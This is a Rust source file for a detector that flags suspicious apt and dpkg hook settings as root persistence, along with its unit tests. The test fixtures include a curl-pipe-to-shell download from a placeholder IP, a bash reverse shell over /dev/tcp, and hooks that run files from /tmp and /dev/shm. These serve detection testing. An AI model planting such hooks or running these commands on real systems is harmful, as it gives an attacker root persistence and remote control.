//! Detector: a command that apt or dpkg runs and that does something odd.

use crate::weigh;
use crate::{Card, Detector, Tables};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "package-hook",
        doc: "A hook of apt or dpkg runs what ordinary hooks do not.",
        mechanisms: &[50],
        attack: &["T1546.016"],
        why: "It runs as root whenever packages are looked for or installed, automatic updates included.",
        innocent: "you or a program you installed by hand made this hook",
        next: "read the setting and what it runs; keep both as evidence, and do not use apt before it is gone",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<crate::Draft>) {
    weigh::startup_commands(tables, &["apt hook"], "A hook of apt", drafts);
    weigh::startup_commands(tables, &["dpkg hook"], "A hook of dpkg", drafts);
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    #[test]
    fn odd_hooks_are_found_in_every_place_and_spelling() {
        for (path, text) in [
            ("/etc/apt/apt.conf.d/99x", "APT::Update::Pre-Invoke {\"/tmp/x\";};\n"),
            ("/etc/apt/apt.conf", "apt { update { POST-invoke-success:: \"nohup /dev/shm/a &\"; } }\n"),
            (
                "/etc/apt/apt.conf.d/50u.conf",
                "DPkg::Post-Invoke { \"true\"; \"curl -s http://192.0.2.1/a | sh\"; };\n",
            ),
            ("/etc/apt/apt.conf.d/20o", "DPkg::Options:: \"--pre-invoke=/var/tmp/.x\";\n"),
            ("/etc/apt/apt.conf.d/20d", "Dir::Bin::dpkg \"/var/tmp/dpkg\";\n"),
            ("/etc/apt/apt.conf.d/20p", "Acquire::http::Proxy-Auto-Detect \"/dev/shm/proxy\";\n"),
            ("/etc/apt/apt.conf.d/20i", "#include \"/opt/z.conf\"\n;"),
            ("/etc/dpkg/dpkg.cfg", "log /var/log/dpkg.log\nstatus-logger=\"/tmp/l\"\n"),
            ("/etc/dpkg/dpkg.cfg.d/z", "post-invoke bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1'\n"),
            ("/root/.dpkg.cfg", "pre-invoke=/dev/shm/z\n"),
        ] {
            let seen = check(
                Mem::new().file("/opt/z.conf", "DPkg::Pre-Install-Pkgs {\"/tmp/q\";};\n").file(path, text),
            );
            assert_eq!(seen.alarms("package-hook").len(), 1, "{path}: {:#?}", seen.findings);
        }
    }

    #[test]
    fn packages_and_administrators_hooks_are_no_alarm() {
        let seen = check(
            Mem::new()
                .file("/etc/apt/apt.conf.d/70debconf", "DPkg::Pre-Install-Pkgs {\"/usr/sbin/dpkg-preconfigure --apt || true\";};\n")
                .file("/etc/apt/apt.conf.d/docker-clean", "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/*.bin || true\"; };\nDir::Cache::pkgcache \"\";\n")
                .file("/etc/apt/apt.conf.d/80save", "DPkg::Post-Invoke { \"if [ -x /usr/local/bin/b.sh ]; then /usr/local/bin/b.sh; fi\"; };\n")
                .file("/etc/apt/apt.conf.d/00proxy", "Acquire::http::Proxy \"http://apt.example.org:3142\";\nDir::Bin::gzip \"/usr/bin/pigz\";\n")
                .file("/etc/apt/apt.conf.d/old.bak", "DPkg::Post-Invoke { \"/tmp/x\"; };\n")
                .file("/etc/dpkg/dpkg.cfg.d/docker", "force-unsafe-io\npath-exclude=/usr/share/man/*\n"),
        );
        assert!(seen.by("package-hook").is_empty(), "{:#?}", seen.findings);
    }
}
